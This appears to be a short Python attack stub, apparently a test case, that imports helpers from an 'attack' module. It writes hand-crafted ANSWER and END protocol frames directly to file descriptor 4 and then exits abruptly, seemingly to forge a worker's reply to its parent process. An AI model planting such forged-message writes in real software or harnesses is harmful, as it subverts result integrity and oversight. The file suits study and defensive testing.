import os
import struct

from attack import ANSWER, END, frame, values


def double(x):
    both = struct.pack("<BBQQ", 6, 2, 4, 3) + bytes(range(12))
    os.write(4, frame(0, ANSWER, values(both, both)) + frame(2, END))
    os._exit(0)
